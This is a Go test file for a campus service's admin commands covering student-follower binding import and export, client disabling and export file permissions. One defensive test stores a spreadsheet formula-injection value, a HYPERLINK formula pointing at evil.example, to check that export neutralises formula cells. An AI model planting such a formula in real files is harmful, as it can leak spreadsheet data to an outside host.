package admin_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"os"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/campus-it/ucs/pkg/admin"
	"github.com/campus-it/ucs/pkg/config"
	"github.com/campus-it/ucs/pkg/embedded/embeddedtest"
	"github.com/campus-it/ucs/pkg/service"
	"github.com/campus-it/ucs/pkg/standalone"
	"github.com/campus-it/ucs/pkg/store"
)

// bindingsEnv is a FerretDB database with a configuration file naming it, as the operators'
// commands use it, and a store on the same database to look at what they did.
func bindingsEnv(t *testing.T) (cfgPath, dir string, st *store.Store) {
	t.Helper()
	if testing.Short() {
		t.Skip("starts FerretDB")
	}
	f := embeddedtest.FerretDB(t)
	dir = t.TempDir()
	cfgPath = dir + "/config.yaml"
	db := embeddedtest.DBName(t)
	if err := os.WriteFile(cfgPath, []byte(fmt.Sprintf("mongodb:\n  uri: %s\n  database: %s\n", f.URI(), db)), 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	st, err := store.Open(ctx, store.Options{URI: f.URI(), Database: db, ConnectTimeout: 10 * time.Second, Tool: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = st.Close(context.Background()) })
	return cfgPath, dir, st
}

// TestImportReadsColumnsByTheHeader: a CSV header names the two columns in either order and
// spelling, and the rows are read by it; a first line that names something else is refused,
// and nothing is written. Taken for data, such a line bound a user "openid", and a file with
// its columns the other way round bound every row backwards.
func TestImportReadsColumnsByTheHeader(t *testing.T) {
	cfgPath, dir, st := bindingsEnv(t)
	ctx := context.Background()
	for _, c := range []struct{ name, body, userID, openID string }{
		{"swapped", "openid,userid\noSwapped00000000000000000001,2022000001\n", "2022000001", "oSwapped00000000000000000001"},
		{"spelt apart", "User_ID,Open-ID\n2022000002,oSpelt000000000000000000002\n", "2022000002", "oSpelt000000000000000000002"},
	} {
		p := dir + "/" + strings.ReplaceAll(c.name, " ", "_") + ".csv"
		if err := os.WriteFile(p, []byte(c.body), 0o600); err != nil {
			t.Fatal(err)
		}
		o := runAdmin(t, nil, "-config", cfgPath, "bindings", "import", p)
		if o.code != admin.ExitOK {
			t.Fatalf("%s: exit %d %s %s", c.name, o.code, o.stdout, o.stderr)
		}
		if b, err := st.Binding(ctx, c.userID); err != nil || b.OpenID != c.openID {
			t.Errorf("%s: %s bound to %+v (%v), want %s", c.name, c.userID, b, err, c.openID)
		}
		for _, header := range []string{"openid", "userid", "user_id", "User_ID", c.openID} {
			if _, err := st.Binding(ctx, header); !errors.Is(err, store.ErrNotFound) {
				t.Errorf("%s: user number %q is bound (%v)", c.name, header, err)
			}
		}
	}
	p := dir + "/other.csv"
	if err := os.WriteFile(p, []byte("userid,name\n2022000003,oOther000000000000000000003\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if o := runAdmin(t, nil, "-config", cfgPath, "bindings", "import", p); o.code != admin.ExitFailure || !strings.Contains(o.stderr, "header") {
		t.Fatalf("a header naming another column: exit %d %s %s", o.code, o.stdout, o.stderr)
	}
	if _, err := st.Binding(ctx, "2022000003"); !errors.Is(err, store.ErrNotFound) {
		t.Fatalf("a refused file wrote a binding: %v", err)
	}
}

// TestBindingsDeleteStopsPushesAtOnce: `bindings delete` tells the workers, as the binding
// page does, so that a push accepted right after it fails with "no binding" instead of going
// to the follower a worker read a moment before.
func TestBindingsDeleteStopsPushesAtOnce(t *testing.T) {
	st := runningStack(t)
	data := st.DataDir
	user := standalone.DemoUsers[2]
	secret := ""
	for _, c := range st.Info.Clients {
		if c.ClientID == standalone.DemoClient {
			secret = c.ClientSecret
		}
	}
	env := map[string]string{"UCS_CLIENT_SECRET": secret}
	type trace struct {
		State  string `json:"state"`
		Reason string `json:"reason"`
	}
	// A push the worker delivers: it has read (and cached) the binding.
	o := runAdmin(t, env, "-data", data, "push", "test", user, "-client", standalone.DemoClient, "--json")
	if tr := decode[trace](t, o); o.code != admin.ExitOK || tr.State != "delivered" {
		t.Fatalf("first push: exit %d %s %s", o.code, o.stdout, o.stderr)
	}
	shown := decode[struct {
		OpenID string `json:"openid"`
	}](t, mustRun(t, "-data", data, "bindings", "show", user, "--json"))
	t.Cleanup(func() {
		p := t.TempDir() + "/back.csv"
		if err := os.WriteFile(p, []byte(user+","+shown.OpenID+"\n"), 0o600); err == nil {
			mustRun(t, "-data", data, "bindings", "import", p)
		}
	})
	if o := mustRun(t, "-data", data, "bindings", "delete", user); strings.Contains(o.stderr, "warning") {
		t.Fatalf("the workers were not told: %s", o.stderr)
	}
	o = runAdmin(t, env, "-data", data, "push", "test", user, "-client", standalone.DemoClient, "--json")
	if tr := decode[trace](t, o); tr.State != "failed" || !strings.Contains(tr.Reason, "no binding") {
		t.Errorf("a push accepted after `bindings delete %s` ended %q (%s), want failed with \"no binding\"", user, tr.State, tr.Reason)
	}
}

// TestExportIsWhatImportReads: export writes no cell a spreadsheet runs as a formula (a value
// that begins as one gets a leading ', which import drops), leaves out, and says so, bindings
// of user numbers no push can name (an earlier version stored whatever a sign-in said), and
// importing an export changes nothing and refuses nothing.
func TestExportIsWhatImportReads(t *testing.T) {
	cfgPath, dir, st := bindingsEnv(t)
	ctx := context.Background()
	for _, b := range []struct{ user, openid string }{
		{"zhang.san@campus.example", "oEmail0000000000000000000001"},
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "oFormula00000000000000000002"},
		{"2022000003", "oPlain00000000000000000000003"},
		{"-2022000004", "-oDash000000000000000000004"},
	} {
		if _, err := st.Bind(ctx, b.user, b.openid); err != nil {
			t.Fatal(err)
		}
	}
	exp := mustRun(t, "-config", cfgPath, "bindings", "export")
	for _, line := range strings.Split(strings.TrimSpace(exp.stdout), "\n") {
		for _, cell := range strings.Split(line, ",") {
			if c := strings.TrimPrefix(cell, `"`); c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
				t.Errorf("export writes a cell a spreadsheet runs as a formula: %s", line)
			}
		}
	}
	if !strings.Contains(exp.stdout, "'-2022000004,'-oDash000000000000000000004") || !strings.Contains(exp.stderr, "Left out 2 bindings") {
		t.Fatalf("export:\n%s%s", exp.stdout, exp.stderr)
	}
	p := dir + "/export.csv"
	if err := os.WriteFile(p, []byte(exp.stdout), 0o600); err != nil {
		t.Fatal(err)
	}
	o := runAdmin(t, nil, "-config", cfgPath, "bindings", "import", "--json", p)
	sum := decode[struct {
		Unchanged, Inserted, Updated int
		Rejected                     []any
	}](t, o)
	if o.code != admin.ExitOK || sum.Unchanged != 2 || sum.Inserted != 0 || sum.Updated != 0 || len(sum.Rejected) != 0 {
		t.Fatalf("import of the export: exit %d %s %s", o.code, o.stdout, o.stderr)
	}
}

// TestConfiguredBindingSeenByTheBindingPage: a binding of the configuration file is written
// as an import writes it, with the follower's owner the binding page reads: the page shows the
// follower bound, and a student who binds the same follower there takes it over, so that one
// follower is never bound to two user numbers, until the next start binds it as the file says.
// Deleting such a binding says that it comes back at the next start, from the file.
func TestConfiguredBindingSeenByTheBindingPage(t *testing.T) {
	cfgPath, _, st := bindingsEnv(t)
	ctx := context.Background()
	const follower = "oXyz0000000000000000000000002"
	file := []config.Binding{{UserID: "2020000002", OpenID: follower}}
	if err := service.LoadBindings(ctx, st, file, slog.New(slog.DiscardHandler)); err != nil {
		t.Fatal(err)
	}
	if b, err := st.BindingOf(ctx, follower); err != nil || b.UserID != "2020000002" {
		t.Errorf("the binding page finds follower %s bound to %q (%v), want 2020000002", follower, b.UserID, err)
	}
	if _, err := st.Bind(ctx, "2021000099", follower); err != nil {
		t.Fatal(err)
	}
	if b, err := st.Binding(ctx, "2020000002"); err == nil && b.OpenID == follower {
		t.Errorf("user numbers 2020000002 and 2021000099 are both bound to follower %s", follower)
	}
	// A start with the same file binds the follower as the file says, again to one user number.
	if err := service.LoadBindings(ctx, st, file, slog.New(slog.DiscardHandler)); err != nil {
		t.Fatal(err)
	}
	if b, err := st.BindingOf(ctx, follower); err != nil || b.UserID != "2020000002" {
		t.Errorf("after a start, follower %s is bound to %q (%v), want 2020000002 as the file says", follower, b.UserID, err)
	}
	if _, err := st.Binding(ctx, "2021000099"); !errors.Is(err, store.ErrNotFound) {
		t.Errorf("after a start, 2021000099 is still bound: %v", err)
	}

	raw, err := os.ReadFile(cfgPath)
	if err != nil {
		t.Fatal(err)
	}
	raw = append(raw, "bindings:\n  - {userid: '2020000003', openid: oXyz0000000000000000000000003}\n"...)
	if err := os.WriteFile(cfgPath, raw, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := service.LoadBindings(ctx, st, []config.Binding{{UserID: "2020000003", OpenID: "oXyz0000000000000000000000003"}}, slog.New(slog.DiscardHandler)); err != nil {
		t.Fatal(err)
	}
	o := runAdmin(t, nil, "-config", cfgPath, "bindings", "delete", "2020000003")
	if o.code != admin.ExitOK || !strings.Contains(o.stdout, "comes back at the next start") {
		t.Errorf("bindings delete of a configured binding: exit %d, %q: want it said that it comes back", o.code, o.stdout)
	}
}

// TestImportRefusesAHeaderAfterTheFirstLine: two files joined (`cat a.csv b.csv`), the second
// with its columns the other way round. Its header, taken for data, would bind a user number
// "openid", and every row after it backwards; the import is refused, naming the line, and
// nothing is written.
func TestImportRefusesAHeaderAfterTheFirstLine(t *testing.T) {
	cfgPath, dir, st := bindingsEnv(t)
	ctx := context.Background()
	p := dir + "/joined.csv"
	body := "userid,openid\n2023000001,oJoinedA0000000000000000001\n" +
		"openid,userid\noJoinedB0000000000000000002,2023000002\n"
	if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	o := runAdmin(t, nil, "-config", cfgPath, "bindings", "import", p)
	if o.code == admin.ExitOK || !strings.Contains(o.stderr, "line 3") {
		t.Fatalf("import of joined files: exit %d, want a refusal naming line 3\n%s%s", o.code, o.stdout, o.stderr)
	}
	for _, u := range []string{"2023000001", "openid", "oJoinedB0000000000000000002", "2023000002"} {
		if b, err := st.Binding(ctx, u); !errors.Is(err, store.ErrNotFound) {
			t.Errorf("user number %q bound to %q (%v) by a refused import", u, b.OpenID, err)
		}
	}
}

// TestDisabledClientOfTheFileStaysDisabled: a client of the configuration file disabled with
// the commands stays disabled when its entry in the file changes (an edit ends no incident's
// lock-out), and `clients disable` says so, and how it ends.
func TestDisabledClientOfTheFileStaysDisabled(t *testing.T) {
	cfgPath, _, st := bindingsEnv(t)
	ctx := context.Background()
	base, err := os.ReadFile(cfgPath)
	if err != nil {
		t.Fatal(err)
	}
	load := func(scopes string) {
		t.Helper()
		y := string(base) + "oauth:\n  clients:\n    - client_id: portal\n      client_secret: portal-secret-0123456789\n" +
			"      grants: [client_credentials]\n      scopes: [" + scopes + "]\n"
		if err := os.WriteFile(cfgPath, []byte(y), 0o600); err != nil {
			t.Fatal(err)
		}
		c, err := config.Load(cfgPath)
		if err != nil {
			t.Fatal(err)
		}
		if err := service.LoadClients(ctx, st, c.OAuth.Clients); err != nil {
			t.Fatal(err)
		}
	}
	load("notification.mp")
	o := runAdmin(t, nil, "-config", cfgPath, "clients", "disable", "portal")
	if o.code != admin.ExitOK || !strings.Contains(o.stdout, "stays disabled, even when its entry there changes, until `clients enable`") {
		t.Fatalf("disable: exit %d\n%s%s", o.code, o.stdout, o.stderr)
	}
	load("notification.mp, fake_api")
	c, err := st.Client(ctx, "portal")
	if err != nil {
		t.Fatal(err)
	}
	if len(c.Scopes) != 2 || !c.Disabled {
		t.Fatalf("after its entry changed: scopes %v, disabled %v; want the new scopes, still disabled", c.Scopes, c.Disabled)
	}
	if o := runAdmin(t, nil, "-config", cfgPath, "clients", "enable", "portal"); o.code != admin.ExitOK {
		t.Fatalf("enable: exit %d %s", o.code, o.stderr)
	}
	if c, err := st.Client(ctx, "portal"); err != nil || c.Disabled {
		t.Fatalf("after enable: disabled %v (%v)", c.Disabled, err)
	}
}

// TestExportFileOnlyForItsOwner: an export holds every user number with its openid. Written
// with -o under an operator's usual umask, into a new file or over one readable by all, it is
// readable by its owner alone.
func TestExportFileOnlyForItsOwner(t *testing.T) {
	cfgPath, dir, st := bindingsEnv(t)
	if _, err := st.Bind(context.Background(), "2022000001", "oPerm000000000000000000000001"); err != nil {
		t.Fatal(err)
	}
	old := syscall.Umask(0o022)
	defer syscall.Umask(old)
	fresh, existing := dir+"/bindings.csv", dir+"/earlier.csv"
	if err := os.WriteFile(existing, []byte("userid,openid\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{fresh, existing} {
		mustRun(t, "-config", cfgPath, "bindings", "export", "-o", p)
		fi, err := os.Stat(p)
		if err != nil {
			t.Fatal(err)
		}
		if fi.Mode().Perm() != 0o600 {
			t.Errorf("%s is written with mode %v, want 0600", p, fi.Mode().Perm())
		}
		if b, _ := os.ReadFile(p); !strings.Contains(string(b), "2022000001") {
			t.Errorf("%s lacks the binding: %q", p, b)
		}
	}
}

// TestExportToASharedFileLeavesItsMode: `bindings export -o /dev/null` (an operator checking
// that the export runs) must not make a device or pipe that other users share theirs alone.
// A named pipe with a reader stands for it here.
func TestExportToASharedFileLeavesItsMode(t *testing.T) {
	cfgPath, dir, st := bindingsEnv(t)
	if _, err := st.Bind(context.Background(), "2022000001", "oPerm000000000000000000000001"); err != nil {
		t.Fatal(err)
	}
	pipe := dir + "/shared"
	if err := syscall.Mkfifo(pipe, 0o666); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(pipe, 0o666); err != nil {
		t.Fatal(err)
	}
	reader, err := os.OpenFile(pipe, os.O_RDONLY|syscall.O_NONBLOCK, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = reader.Close() }()
	mustRun(t, "-config", cfgPath, "bindings", "export", "-o", pipe)
	fi, err := os.Stat(pipe)
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm() != 0o666 {
		t.Errorf("export -o to a shared pipe made it mode %v", fi.Mode().Perm())
	}
	if b, _ := io.ReadAll(reader); !strings.Contains(string(b), "2022000001") {
		t.Errorf("the pipe got no binding: %q", b)
	}
}
